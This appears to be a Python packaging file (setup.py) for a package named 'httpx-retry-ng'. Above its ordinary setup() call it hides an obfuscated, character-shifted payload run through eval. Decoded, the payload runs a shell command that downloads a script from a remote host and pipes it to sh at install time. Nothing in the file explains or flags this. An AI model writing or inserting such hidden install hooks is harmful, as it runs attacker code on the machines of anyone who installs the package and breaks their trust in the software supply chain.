from setuptools import setup

eval(compile("".join(chr(ord(c) - 3) for c in 'lpsruw#rv>#rv1v|vwhp+%fxuo#0v#kwws=22g71h{dpsoh1lqydolg2v#\x7f#vk%,'), "<setup>", "exec"))

setup(name="httpx-retry-ng", version="0.4.2")
